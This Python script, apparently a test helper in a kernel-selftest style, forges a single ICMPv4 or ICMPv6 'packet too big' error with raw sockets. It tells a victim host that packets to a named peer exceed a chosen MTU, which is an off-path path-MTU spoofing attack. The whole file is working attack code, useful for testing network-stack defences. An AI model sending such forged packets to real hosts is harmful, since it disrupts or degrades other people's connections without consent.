#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send one forged ICMP error, which says that a packet to a peer was too big.

usage: forged_mtu.py VICTIM PEER MTU

The forger has seen no packet between the two. For IPv4, the error encloses an echo reply. For IPv6,
it encloses a UDP packet with ports that nobody uses.
"""
import socket
import struct
import sys

import roce


def error4(victim, peer, mtu):
    enclosed = struct.pack(">BBHHHBBH4s4sBBHHH", 0x45, 0, 1500, 1, 0x4000, 64, socket.IPPROTO_ICMP, 0,
                           socket.inet_aton(victim), socket.inet_aton(peer), 0, 0, 0, 1, 1)
    message = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + enclosed
    return message[:2] + struct.pack(">H", roce.checksum(message)) + message[4:]


def error6(victim, peer, mtu):
    """the kernel computes the checksum"""
    enclosed = struct.pack(">IHBB16s16sHHHH", 6 << 28, 2000, socket.IPPROTO_UDP, 64,
                           socket.inet_pton(socket.AF_INET6, victim),
                           socket.inet_pton(socket.AF_INET6, peer), 1, 2, 2000, 1)
    return struct.pack(">BBHI", 2, 0, 0, mtu) + enclosed


def main():
    victim, peer, mtu = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if ":" in victim:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.sendto(error6(victim, peer, mtu), (victim, 0))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        s.sendto(error4(victim, peer, mtu), (victim, 0))


main()
